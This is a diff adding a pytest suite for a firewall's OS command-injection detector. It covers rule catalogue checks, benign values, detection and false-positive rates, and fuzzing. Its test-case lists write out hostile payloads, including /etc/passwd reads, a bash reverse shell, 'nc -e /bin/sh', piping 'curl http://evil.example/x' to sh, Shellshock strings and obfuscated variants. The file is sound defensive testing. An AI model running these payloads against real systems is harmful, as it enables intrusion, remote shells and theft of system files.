@@ -1,0 +1,177 @@
+"""OS command injection detector: positive cases per rule, real benign values, corpus rates on the copied
+samples, the PREFILTER necessary condition and adversarial inputs."""
+
+from __future__ import annotations
+
+import random
+import re
+
+import pytest
+from injection_corpus import (
+    MAX_FALSE_POSITIVES,
+    MIN_DETECTION,
+    detection_rate,
+    false_positive_rate,
+    fixture_lines,
+    fixture_payloads,
+    hard_cases,
+    query_fields,
+    views,
+)
+
+from hullguard.events.schema import Severity
+from hullguard.firewall.detectors import cmdi
+from hullguard.firewall.detectors.base import ScanContext
+from hullguard.firewall.detectors.cmdi_shell import MAX_SEGMENTS, split_commands
+
+CTX = ScanContext()
+
+RULE_CASES: dict[str, list[str]] = {
+    "HG-CMDI-001": [
+        "; cat /etc/passwd",
+        "| id",
+        "&& whoami",
+        "127.0.0.1; ls -la",
+        "\n/usr/bin/id",
+        "'; cat /etc/passwd #",
+        "x|/bin/sh",
+        "& ping -n 10 127.0.0.1 &",
+        "| dir C:\\",
+        "& net user hacker P@ss /add",
+    ],
+    "HG-CMDI-002": ["`id`", "$(cat /etc/passwd)", "test`sleep 5`", "a$(sleep 5)", "'$(id)'"],
+    "HG-CMDI-003": [
+        "x;cat${IFS}/etc/passwd",
+        ";cat$IFS$9/etc/passwd",
+        "; c''at /etc/passwd",
+        "; c\\at /etc/passwd",
+        ";$'\\x63\\x61\\x74' /etc/passwd",
+        ";{cat,/etc/passwd}",
+        "; /???/??t /???/p??s??",
+    ],
+    "HG-CMDI-004": ["() { :;}; /bin/bash -c id", "() { :; }; echo vulnerable"],
+    "HG-CMDI-005": [
+        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "| nc -e /bin/sh 10.0.0.1 4444",
+        "; curl http://evil.example/x | sh",
+    ],
+    "HG-CMDI-006": ["cat /etc/passwd", "wget http://evil.example/x.sh", "type C:\\Windows\\win.ini", "uname -a"],
+    "HG-CMDI-008": ['<!--#exec cmd="/bin/cat /etc/passwd"-->'],
+    "HG-CMDI-009": ["system('cat /etc/passwd')", "eval('whoami');", 'os.system("id")'],
+}
+STRICT_ONLY = ["whoami", "ifconfig", "uname"]
+
+BENIGN = [
+    "a & b",
+    "Tom & Jerry",
+    "rock|paper",
+    "https://x.com/?a=1&b=2",
+    "text/html;q=0.9",
+    "1.2.3; build 5",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+    "Eat; sleep; repeat",
+    "Passport & ID",
+    "name|id|value",
+    "cost: $(5)",
+    "Use cat /etc/passwd to see users",
+    "{\n  id\n  field1\n  field2\n}",
+    '{\n  "Type" : "Notification",\n  "MessageId" : "a7c9d2fa"\n}',
+    "function(){return o(t,r,arguments)}",
+    "id",
+    "type",
+]
+
+
+def test_rule_catalogue_is_complete_and_stable() -> None:
+    ids = [rule.rule_id for rule in cmdi.RULES]
+    assert len(ids) == len(set(ids))
+    assert all(re.fullmatch(r"HG-CMDI-\d{3}", rule_id) for rule_id in ids)
+    assert set(RULE_CASES) | {"HG-CMDI-007"} == set(ids), "every rule needs positive cases"
+    for rule in cmdi.RULES:
+        assert (
+            rule.family == cmdi.FAMILY == "cmdi" and rule.cwe.startswith("CWE-") and isinstance(rule.severity, Severity)
+        )
+        assert rule.title and rule.description and rule.remediation
+
+
+@pytest.mark.parametrize(("rule_id", "payload"), [(r, p) for r, cases in RULE_CASES.items() for p in cases])
+def test_each_rule_reports_its_payloads_with_a_reason(rule_id: str, payload: str) -> None:
+    found = cmdi.scan(payload, CTX)
+    assert found is not None, payload
+    assert found.rule_id == rule_id, (payload, found)
+    assert found.detail and 0 <= found.start <= found.end <= len(payload)
+
+
+@pytest.mark.parametrize("payload", STRICT_ONLY)
+def test_bare_recon_command_is_reported_only_at_paranoia_two(payload: str) -> None:
+    assert cmdi.scan(payload, CTX) is None
+    found = cmdi.scan(payload, ScanContext(paranoia=2))
+    assert found is not None and found.rule_id == "HG-CMDI-007"
+
+
+@pytest.mark.parametrize("value", BENIGN)
+def test_benign_values_pass(value: str) -> None:
+    assert cmdi.scan(value, ScanContext(paranoia=2)) is None
+
+
+def test_words_are_built_like_a_shell_builds_them() -> None:
+    segments = split_commands("a;c''a\\t$@ /etc/pa''sswd|w\"ho\"ami `id`")
+    assert [(s.opener, s.words) for s in segments] == [
+        ("start", ["a"]),
+        (";", ["cat", "/etc/passwd"]),
+        ("|", ["whoami"]),
+        ("`", ["id"]),
+        (")", []),
+    ]
+    assert split_commands("echo 'a;b'")[0].words == ["echo", "a;b"]  # a quoted ';' separates nothing
+
+
+@pytest.mark.parametrize("kind", ["attacks", "benign"])
+def test_hand_written_hard_cases(kind: str) -> None:
+    cases = hard_cases("cmdi")[kind]
+    wrong = [c for c in cases if (cmdi.scan(c, CTX) is None) == (kind == "attacks")]
+    assert not wrong
+
+
+def test_detection_rate_on_copied_payload_lists() -> None:
+    payloads = [line for _name, line in fixture_payloads("cmdi")]
+    assert len(payloads) > 300
+    rate, missed = detection_rate(cmdi, payloads)
+    assert rate >= MIN_DETECTION, missed
+
+
+def test_false_positive_rate_on_benign_query_strings() -> None:
+    rate, flagged = false_positive_rate(cmdi, fixture_lines("cmdi", "benign-query-strings.txt"))
+    assert rate <= MAX_FALSE_POSITIVES, flagged[:5]
+
+
+def test_prefilter_is_a_necessary_condition_and_rejects_most_benign_strings() -> None:
+    prefilter = re.compile(cmdi.PREFILTER, re.IGNORECASE)
+    rows = [line for _n, line in fixture_payloads("cmdi")] + hard_cases("cmdi")["attacks"] + BENIGN + STRICT_ONLY
+    benign_fields = [f for q in fixture_lines("cmdi", "benign-query-strings.txt") for f in query_fields(q)]
+    for text in rows + benign_fields:
+        for view in views(text):
+            for paranoia in (1, 3):
+                if cmdi.scan(view, ScanContext(paranoia=paranoia)) is not None:
+                    assert prefilter.search(view), view
+    rejected = sum(1 for f in benign_fields if not prefilter.search(f))
+    assert rejected / len(benign_fields) > 0.5
+
+
+@pytest.mark.parametrize(
+    "chunk", ["'", "$(", "`", ";id", "${IFS}", "{a,", "|", "\\n", "() {", "a'b\"c", "C:\\x", "{a ", "${a "]
+)
+def test_adversarial_input_is_bounded(chunk: str) -> None:
+    text = chunk * (100_000 // len(chunk))
+    if chunk == "C:\\x":
+        text = "a" * 50_000 + text[:50_000]  # a long word, then many escapes
+    assert len(split_commands(text)) <= MAX_SEGMENTS + 1
+    cmdi.detect(text, CTX)  # completes and does not raise
+
+
+def test_random_input_never_raises() -> None:
+    rng = random.Random(5)
+    alphabet = ";|&`$(){}'\"\\ \n\t<>/catidwhoami-IFS@*?x0123456789,"
+    for _ in range(2000):
+        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
+        cmdi.detect(text, ScanContext(paranoia=rng.randint(1, 3)))
